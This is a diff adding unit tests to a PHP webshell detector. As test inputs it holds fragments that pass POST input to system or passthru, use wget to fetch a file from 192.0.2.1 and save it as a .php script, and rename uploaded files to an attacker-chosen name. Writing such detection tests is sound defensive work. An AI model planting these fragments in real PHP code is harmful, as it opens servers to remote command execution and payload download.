@@ -191,5 +191,35 @@ TEST(WebshellPhp, LoopsWithoutAnEnd) {
       Contains("code.command_input"));
 }
 
+// One of several functions that are tried in turn.
+TEST(WebshellPhp, FunctionsTriedInTurn) {
+  EXPECT_THAT(seen_in("foreach (array('sys' . 'tem', 'pass' . 'thru') as $f) "
+                      "if (function_exists($f)) $f(" +
+                      kPost + "['x']);"),
+              Contains("code.command_input"));
+  EXPECT_THAT(seen_in("foreach (array('sys"
+                      "tem', 'pass"
+                      "thru') as $f) "
+                      "echo $f, function_exists($f) ? 'on' : 'off', " +
+                      kPost + "['x'];"),
+              Not(Contains("code.command_input")));
+}
+
+TEST(WebshellPhp, ScriptsThatComeOverTheNetwork) {
+  EXPECT_THAT(seen_in("sys"
+                      "tem('wget http://192.0.2.1/a.txt -O images/a.php');"),
+              Contains("code.write_script"));
+  EXPECT_THAT(seen_in("sys"
+                      "tem('wget http://192.0.2.1/a.php -O images/a.txt');"),
+              Not(Contains("code.write_script")));
+}
+
+TEST(WebshellPhp, UploadsUnderAnotherName) {
+  EXPECT_THAT(seen_in("rename($_FI"
+                      "LES['f']['tmp_name'], " +
+                      kPost + "['n']);"),
+              Contains("code.upload"));
+}
+
 }  // namespace
 }  // namespace konseki::webshell
